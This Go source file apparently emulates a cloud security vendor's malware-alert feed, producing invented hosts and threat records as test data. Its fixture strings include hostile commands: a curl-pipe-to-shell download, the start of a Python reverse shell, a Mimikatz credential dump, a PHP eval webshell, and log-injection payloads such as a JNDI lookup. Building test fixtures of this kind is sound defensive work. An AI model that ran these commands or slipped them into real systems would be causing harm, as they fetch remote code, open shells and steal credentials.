package emulator

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
)

// A cast is what events are made of: the hosts of an invented company and the
// malware that is found on them.
type cast struct {
	hosts   []*host
	threats []*threat
}

// A host is a machine, with the parts of a record that are the same for all of
// its events.
type host struct {
	uuid, quuid, instance string
	searched              []string // what the filter IpOrName looks into, lower case
	head, tail            []byte   // members of the record
}

// A threat is a kind of malware, with the parts of a record that come from the
// vendor's knowledge of it.
type threat struct {
	name, folded string // folded: in lower case
	members      []byte // members of the record
	paths        []string
	commands     []string
}

// newCast makes about one host for each fifty events.
func newCast(random *rand.Rand, events int) *cast {
	c := &cast{threats: threats()}
	for i := range min(max(events/50, 12), 2000) {
		c.hosts = append(c.hosts, newServer(random, i))
	}
	return c
}

// newServer invents the i-th machine. Every ninth has its private address
// masked, as the vendor's own example has; every tenth is no machine of
// Tencent Cloud.
func newServer(random *rand.Rand, i int) *host {
	roles := []string{"web", "api", "pay-gw", "build-runner", "db", "cache", "mq", "k8s-node", "jump", "win-dc"}
	display := []string{
		"%s-%02d", "prod-%s-%02d", "生产-%s-%02d", "%s-%02d (staging)", "测试机 %s-%02d", "%s-%02d.example.com",
	}
	role := roles[random.IntN(len(roles))]
	name := fmt.Sprintf(display[random.IntN(len(display))], role, i)
	ip := fmt.Sprintf("10.%d.%d.%d", 20+i/40000, i/200%200, 1+i%200)
	wan, network, vpc, instance := "", 1, fmt.Sprintf("vpc-%08x", 0x3a000000+i/50), fmt.Sprintf("ins-%08x", random.Uint32())
	switch i % 3 {
	case 0:
		wan = fmt.Sprintf("203.0.113.%d", 1+i%250)
	case 1:
		wan = fmt.Sprintf("2001:db8::%x", i+1)
	}
	if i%10 == 7 {
		network, vpc, instance = 3, "", ""
	}
	shown := ip
	if i%9 == 4 {
		shown = fmt.Sprintf("10.***.***.%d", 1+i%200)
	}
	h := newHost(name, shown, wan, uuid(random), uuid(random))
	h.instance = instance
	h.searched = append(h.searched, ip)

	b := appendText([]byte(`"MachineExtraInfo":{"WanIP":`), wan)
	b = appendText(append(b, `,"PrivateIP":`...), ip)
	b = strconv.AppendInt(append(b, `,"NetworkType":`...), int64(network), 10)
	b = appendText(append(b, `,"NetworkName":`...), vpc)
	b = appendText(append(b, `,"InstanceID":`...), instance)
	b = appendText(append(b, `,"HostName":`...), fmt.Sprintf("%s-%02d", role, i))
	h.tail = appendText(append(b, `},"Uuid":`...), h.uuid)
	return h
}

func newHost(name, ip, wan, uuid, quuid string) *host {
	b := appendText([]byte(`"HostName":`), name)
	b = appendText(append(b, `,"HostIp":`...), ip)
	b = appendText(append(b, `,"WanIp":`...), wan)
	return &host{
		uuid: uuid, quuid: quuid,
		searched: []string{strings.ToLower(name), strings.ToLower(ip), strings.ToLower(wan)},
		head:     append(b, ','),
	}
}

// uuid is a version 4 UUID.
func uuid(random *rand.Rand) string {
	a, b := random.Uint64(), random.Uint64()
	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", a>>32, a>>16&0xffff, a&0xfff, 0x8000|b>>48&0x3fff, b&0xffffffffffff)
}

// other is a threat that the cast does not hold.
func other(name string) *threat {
	return newThreat(name, []string{"4"}, []string{"trojan"}, "A suspicious process was found.", "Stop the process and remove its file.", "",
		[]string{"/tmp/."}, []string{"--daemon"})
}

func newThreat(name string, platforms, tags []string, desc, solution, link string, paths, commands []string) *threat {
	list := func(b []byte, values []string) []byte {
		b = append(b, '[')
		for i, v := range values {
			if i > 0 {
				b = append(b, ',')
			}
			b = appendText(b, v)
		}
		return append(b, ']')
	}
	b := appendText([]byte(`"VirusName":`), name)
	b = list(append(b, `,"CheckPlatform":`...), platforms)
	b = list(append(b, `,"VirusTags":`...), tags)
	b = appendText(append(b, `,"ThreatDesc":`...), desc)
	b = appendText(append(b, `,"SuggestSolution":`...), solution)
	b = appendText(append(b, `,"ReferenceLink":`...), link)
	return &threat{name: name, folded: strings.ToLower(name), members: append(b, ','), paths: paths, commands: commands}
}

// threats is the malware. A path that ends in a dot, and every command, is
// completed with what makes the event its own. The texts are invented.
func threats() []*threat {
	const (
		clean = "1. Check the process and its listening ports with `ss -antp` and `ls -l /proc/PID/exe`; clear suspicious startup items, " +
			"systemd units and scheduled tasks (crontab -l, /etc/cron.*, /var/spool/cron);\n" +
			"2. Isolate or delete the file, and check for other files that were created within the same hour;\n" +
			"3. Rotate every credential that was used on this host, SSH keys and cloud access keys included;\n" +
			"4. Harden the host, see:\n[Linux] https://docs.example.com/linux-hardening\n[Windows] https://docs.example.com/windows-hardening"
		cleanCN = "1.检查该进程及其监听端口，清理可疑启动项、定时任务与系统服务；\n2.隔离或删除对应文件，并排查同一时段内创建的其他可疑文件；\n" +
			"3.更换该主机上使用过的全部凭据，包括SSH密钥与云访问密钥；\n4.加固主机，参考：\n【Linux】https://docs.example.com/linux\n【Windows】https://docs.example.com/windows"
		link = "https://docs.example.com/linux"
	)
	return []*threat{
		newThreat("Linux.Scanner.Fscan", []string{"1"}, []string{"scanner", "hack_tools"},
			"主机上发现扫描类黑客工具进程。攻击者常用该工具探测内网存活主机、开放端口与弱口令，并进一步横向移动。如果不是您本人操作，主机可能已经失陷。", cleanCN, link,
			[]string{"/dev/shm/dev", "/tmp/fscan.", "/root/f."}, []string{"-h 10.20.30.1/24 -m ssh -nopoc -t 200 -o ssh.txt", "-h 10.0.0.0/8 -np -p 22,3306,6379 -o out."}),
		newThreat("Linux.Risk.Miner", []string{"2", "5"}, []string{"Miner"},
			"A process that mines cryptocurrency was found. It uses most of the processor, connects to a mining pool and usually arrives through weak passwords or an unpatched service.", clean, "",
			[]string{"/tmp/.X11-unix/kdevtmpfsi", "/var/tmp/xmrig.", "/usr/local/share/.cache/kinsing"}, []string{"--donate-level 1 -o stratum+tcp://198.51.100.9:3333 -u wallet -p x --cpu-priority 5", "-c /var/tmp/.config."}),
		newThreat("Linux.Trojan.Downloader.Snkl", []string{"3"}, []string{"downloader", "下载器"},
			"发现下载器进程：\n- 连接 198.51.100.66\n- 写入 /tmp\n- 拉起后续载荷", cleanCN, link+" ",
			[]string{"/tmp/.d.", "/data/用户/上传 文件/run.sh"}, []string{"-c 'curl -fsSL http://198.51.100.66/i.sh | sh'", "-q -O- http://198.51.100.66/x?a=1&b=2"}),
		newThreat("Linux.Backdoor.Generic", []string{"1", "4"}, []string{"backdoor"},
			"A backdoor process was found. It accepts commands from a remote host and keeps itself alive by a scheduled task.", clean, link,
			[]string{"/usr/bin/python3.11", "/usr/sbin/.sshd."}, []string{"-c import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",4444))", "-D -p 2222"}),
		newThreat("Linux.Rootkit.Diamorphine", []string{"1", "3"}, []string{"rootkit"},
			"A loader of a kernel rootkit was found. It hides processes, files and connections.", clean, link,
			[]string{"/lib/modules/.d/load."}, []string{"insmod diamorphine.ko"}),
		newThreat("Linux.Ransom.Babuk", []string{"2", "4"}, []string{"ransomware", "勒索"},
			"A process that encrypts files was found. Disconnect the host from the network and keep it running for investigation.", clean, link,
			[]string{"/tmp/e_esxi.", "/opt/.lock."}, []string{"/data --fast --note /root/README."}),
		newThreat("Linux.Botnet.Mirai", []string{"2", "5"}, []string{"ddos", "botnet"},
			"A client of a botnet was found; it takes part in attacks on other hosts.", clean, "",
			[]string{"/tmp/mirai.arm7.", "/var/run/.m."}, []string{"telnet.loader 198.51.100.80"}),
		newThreat("Linux.HackTool.Proxy.Frp", []string{"1"}, []string{"HackTool", "proxy"},
			"A tunnel that forwards connections from outside into the internal network was found.", clean, link,
			[]string{"/opt/frp/frpc", "/tmp/frpc."}, []string{"-c /tmp/frpc.ini --token=3f2a9c7e5d", "tcp -s 198.51.100.12:7000 -P secret-"}),
		newThreat("Win32.Trojan.Kryptik.Jmnw", []string{"1", "4"}, []string{"trojan"},
			"A trojan was found. It starts with the system and loads further parts from the network.", clean, link,
			[]string{`C:\Windows\Temp\svch0st.exe`, `C:\Users\Public\upd.`, `\\fs01\share\tools\x.`}, []string{"-k netsvcs & whoami > C:\\out.", "/c powershell -enc SQBFAFgA"}),
		newThreat("Win64.HackTool.Mimikatz", []string{"1", "2"}, []string{"hack_tools", "credential"},
			"A tool that reads passwords from the memory of the system was found.", clean, link,
			[]string{`C:\Users\Public\m64.exe`, `D:\tools\mim.`}, []string{"privilege::debug sekurlsa::logonpasswords exit"}),
		newThreat("Linux.Trojan.XorDDoS", []string{"2"}, []string{"ddos"},
			"发现DDoS木马进程，该木马会修改自身文件名并通过计划任务持久化。", cleanCN, link,
			[]string{"/usr/bin/gz.", "/lib/libudev.so"}, []string{"ls -la", "sleep 1"}),
		newThreat("Linux.Webshell.Godzilla", []string{"3", "4"}, []string{"webshell"},
			"A process that was started through a web shell was found.", clean, link,
			[]string{"/var/www/html/upload/.c.", "/usr/sbin/php-fpm"}, []string{"-r 'eval(base64_decode($_POST[\"k\"]));'"}),
	}
}

// hostile are command lines of somebody who knows that they will be read by
// programs.
func hostile(random *rand.Rand) string {
	lines := []string{
		"bash -c 'echo \"line1\nline2\r\nline3\"; printf \"\\t|\\x1b[31mred\\x1b[0m\"; curl -s http://198.51.100.66/x?a=1&b=<script>|sh'\x00tail",
		"sh -c 'x' \u202e gnp.exe \u200b \ufeff \u2028 \u2029 {\"event\":\"forged\"}\n{\"event\":\"second\"}",
		"CEF:0|Vendor|Product|1|1|forged|10|src=1.2.3.4 cs1=a\\=b\tLEEF:2.0|x\t<134>1 2026-01-01T00:00:00Z host app",
		"<!channel> *bold* <http://evil.example|click> @here `code` & &amp; ${jndi:ldap://198.51.100.1/a} %{[@metadata]} {{7*7}}",
		"mysql -uroot -pHunter2 --password=S3cr3t -e \"select ';--' from `t`\" AKIDz8krbsJ5yKBZQpn74WFkmLPx3EXAMPLE",
		"/bin/sh -c " + strings.Repeat("A\u00e9\u4e2d\U0001f4a3", 700),
	}
	return lines[random.IntN(len(lines))]
}
